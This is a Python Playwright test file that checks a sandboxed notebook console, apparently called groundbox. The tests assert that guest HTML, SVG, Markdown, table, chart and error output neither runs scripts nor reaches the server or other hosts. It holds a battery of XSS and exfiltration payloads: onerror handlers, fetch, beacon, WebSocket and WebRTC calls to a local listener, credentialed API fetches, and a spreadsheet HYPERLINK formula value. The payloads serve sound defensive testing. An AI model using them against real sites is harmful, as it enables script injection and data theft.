"""Nothing that a guest shows acts in the page, reaches its server, or reaches any other host. In a real Chromium."""

import contextlib
import http.server
import re
import socket
import threading
import time

import pytest

from groundbox.unseen import visible

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed here: make clients")
expect = playwright.expect


class Elsewhere:
    """A host that is not the server's: what connects to it, by TCP or UDP, is noted."""

    def __init__(self, tcp, udp):
        self.url = f"http://127.0.0.1:{tcp.getsockname()[1]}"
        self.udp_port = udp.getsockname()[1]
        self.heard = []
        for listen, socket_of in ((self._take_tcp, tcp), (self._take_udp, udp)):
            threading.Thread(target=listen, args=(socket_of,), daemon=True).start()

    def _take_tcp(self, listening):
        with contextlib.suppress(OSError):
            while True:
                connection, _ = listening.accept()
                with connection:
                    connection.settimeout(1)
                    try:
                        self.heard.append(connection.recv(100))
                    except OSError:
                        self.heard.append(b"a connection without a word")

    def _take_udp(self, bound):
        with contextlib.suppress(OSError):
            while True:
                self.heard.append(bound.recvfrom(100)[0])


@pytest.fixture
def elsewhere():
    with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        yield Elsewhere(tcp, udp)


ACTS = """
<p id="mark">shown</p>
<link rel="preconnect" href="URL/preconnect"><link rel="prefetch" href="URL/prefetch"><base href="URL/">
<link rel="stylesheet" href="URL/sheet"><meta http-equiv="refresh" content="1;url=URL/refresh">
<style>@import url("URL/import"); #mark { background: url("URL/background") }</style>
<img src="x" onerror="try { parent.document.body.append('PWNED') } catch {} ; document.body.append('ran')">
<img src="URL/picture"><iframe src="URL/frame"></iframe><object data="URL/object"></object>
<svg onload="document.body.append('ran')"><image href="URL/image"/></svg>
<video src="URL/video" poster="URL/poster"></video>
<script>
document.body.append("ran");
const make = (name, what) => document.body.appendChild(Object.assign(document.createElement(name), what));
const tries = {
  keys: () => fetch("/v1/keys"),
  boxes: () => fetch("SERVER/v1/sandboxes", {credentials: "include"}),
  fetch: () => fetch("URL/fetch"),
  beacon: () => navigator.sendBeacon("URL/beacon", "x"),
  socket: () => new WebSocket("URL/socket".replace("http", "ws")),
  events: () => new EventSource("URL/events"),
  picture: () => { new Image().src = "URL/new-picture"; },
  open: () => window.open("URL/open"),
  page: () => parent.document.body.append("PWNED"),
  storage: () => parent.localStorage.setItem("x", "PWNED"),
  top: () => { top.location = "URL/top"; },
  link: () => make("link", {rel: "preconnect", href: "URL"}),
  form: () => make("form", {action: "URL/form"}).submit(),
  anchor: () => make("a", {href: "URL/anchor", target: "_blank"}).click(),
  worker: () => new Worker(CREATE(new Blob(["fetch('URL/worker')"]))),
  nested: () => make("iframe", {}).contentWindow.eval("new Image().src = 'URL/nested'"),
  calls: async () => {
    const peer = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:UDP"}]});
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  },
};
for (const name in tries) try { Promise.resolve(tries[name]()).catch(() => {}); } catch {}
setTimeout(() => { location.href = "URL/away"; }, 1500);
</script>
"""


def shown(html):
    return f"from IPython.display import HTML\nHTML({html!r})"


def acting(elsewhere, server):
    html = ACTS.replace("SERVER", server.url).replace("UDP", str(elsewhere.udp_port))
    return (
        html.replace("URL.createObjectURL", "CREATE")
        .replace("URL", elsewhere.url)
        .replace("CREATE", "URL.createObjectURL")
    )


def page_is_untouched(page, server):
    titles = page.evaluate("[location.href, document.title, localStorage.getItem('x')]")
    pwned = page.evaluate(
        "[...document.body.childNodes].some((node) => node.nodeType === 3 && node.data.includes('PWNED'))"
    )
    return titles == [f"{server.url}/", "groundbox", None] and not pwned


def test_markup_of_a_guest_is_shown_and_does_nothing(opened, server, elsewhere):
    console = opened().enter()

    cell = console.run(shown(acting(elsewhere, server)))
    frame = console.frame("still")
    expect(frame.locator("#mark")).to_have_text("shown")
    time.sleep(3)

    assert "ran" not in frame.evaluate("document.body.innerText").split()
    assert elsewhere.heard == []
    assert page_is_untouched(console.page, server)
    assert cell.locator("iframe").get_attribute("sandbox") == "allow-scripts"


def test_scripts_of_a_guest_run_when_asked_for_and_reach_nothing(opened, server, elsewhere):
    console = opened().enter()
    quiet = console.run(shown("<p id='mark'></p><script>mark.textContent = 'ran in ' + origin</script>"))
    quiet.get_by_role("button", name="Run them in a closed frame").click()
    expect(console.frame("lively").locator("#mark")).to_have_text("ran in null")

    cell = console.run(shown(acting(elsewhere, server)))
    cell.get_by_role("button", name="Run them in a closed frame").click()
    time.sleep(5)

    assert elsewhere.heard == []
    assert page_is_untouched(console.page, server)
    assert len(console.page.context.pages) == 1


def test_svg_with_a_script_is_a_picture_and_no_document(console, elsewhere):
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="parent.x=1">'
        f'<script>document.title = "PWNED"; fetch("{elsewhere.url}/svg")</script>'
        f'<image href="{elsewhere.url}/image" width="9" height="9"/><rect width="40" height="40"/></svg>'
    )

    cell = console.run(f"from IPython.display import SVG\nSVG({svg!r})")
    cell.locator(".picture img").evaluate("image => image.decode()")
    time.sleep(1)

    assert cell.locator("svg, script").count() == 0
    assert console.page.title() == "groundbox"
    assert elsewhere.heard == []


def test_markdown_asks_no_other_host(console, elsewhere):
    text = f"# Title\n\n![secret]({elsewhere.url}/picture.png?data)\n\n[link]({elsewhere.url}/link)\n\n<b>bold</b>"

    console.run(f"from IPython.display import Markdown\nMarkdown({text!r})")
    frame = console.frame("still")
    expect(frame.locator("h1")).to_have_text("Title")
    time.sleep(1)

    assert frame.locator("img, a[href]").count() == 0
    assert "[picture elsewhere: secret]" in frame.locator("body").inner_text()
    assert elsewhere.heard == []


def test_cells_and_names_of_a_table_are_text(console):
    html = "<img src=x onerror=alert(1)>"
    values = ['=HYPERLINK("http://x")', "<script>1</script>"]

    cell = console.run(f"import pandas as pd\npd.DataFrame({{{html!r}: {values!r}}})")

    assert cell.locator("td").all_inner_texts() == values
    assert cell.locator("th").inner_text() == html
    assert cell.locator(".table img, .table script, .table a").count() == 0


def test_a_chart_with_markup_in_its_texts_runs_none_of_it(opened, server, elsewhere):
    console = opened().enter()
    title = f"<img src={elsewhere.url}/x onerror=document.title='PWNED'><a href='javascript:document.title=1'>t</a>"
    program = (
        "import plotly.graph_objects as go\n"
        f"figure = go.Figure(go.Scatter(x=[1, 2], y=[1, 2], hovertext={title!r}))\n"
        f"figure.update_layout(title={title!r}, images=[dict(source='{elsewhere.url}/image', sizex=1, sizey=1)])\n"
        "figure"
    )

    console.run(program).locator(".chart[data-drawn]").wait_for()
    time.sleep(1)

    assert console.frame("chart").title() == "Chart"
    assert elsewhere.heard == []
    assert page_is_untouched(console.page, server)


def test_output_names_and_failures_are_text(console):
    html = "<img src=x onerror=document.title=1>"

    cell = console.run(
        f"print({html!r})\nopen('<b>x.txt', 'w').write('x')\nx = {html!r}\nraise ValueError({html!r} + '\\u202e')"
    )

    assert cell.locator(".printed").inner_text() == f"{html}\n"
    assert f"ValueError: {html}\\u202e" in cell.locator(".failure").inner_text()
    assert cell.locator(".artifacts a").inner_text() == "<b>x.txt"
    assert cell.locator("img").count() == 0
    assert console.page.title() == "groundbox"


def test_names_of_sandboxes_are_text(opened, client):
    console = opened(sandbox=False)
    client.post("/v1/sandboxes", json={"labels": {"name": "<img src=x onerror=alert(1)>\u202e"}})

    console.enter()

    assert console.page.locator("#name").inner_text() == "<img src=x onerror=alert(1)>\\u202e"
    assert console.log == []


def test_what_is_unseen_is_made_visible_as_python_does_it(console):
    texts = [
        *("plain", "a\r\nb\tc", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07x", "\x1b]8;;http://x\x1b\\link\x9c", "\x9b1mx"),
        *("\x00\x07\x7f\x85", "\u202eabc\u2066", "\u200b\u200d\ufe0f", "\ufeff\u00ad", "\U000e0041\U0001d173"),
        *("\x1b(B\x1bM", "👩\u200d🚀", "\u2028\u3164", "\x1b[3", "\x1b"),
    ]

    told = console.page.evaluate("(texts) => import('/console/text.js').then(({visible}) => texts.map(visible))", texts)

    assert told == [visible(text) for text in texts]


def test_a_page_of_another_server_can_neither_frame_it_nor_use_its_cookie(opened, server, elsewhere):
    console = opened().enter()
    page = f'''<iframe src="{server.url}/"></iframe><script>
        fetch("{server.url}/v1/sandboxes", {{credentials: "include"}})
          .then((answer) => answer.text()).then((text) => document.title = text, () => document.title = "refused")
        </script>'''

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, *told):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page) as other:
        threading.Thread(target=other.serve_forever, daemon=True).start()
        console.page.goto(f"http://localhost:{other.server_port}/")
        expect(console.page).to_have_title("refused")
        inside = console.page.frames[1].evaluate("document.body.innerText")
        other.shutdown()

    assert not re.search("Sandboxes|Log in", inside)
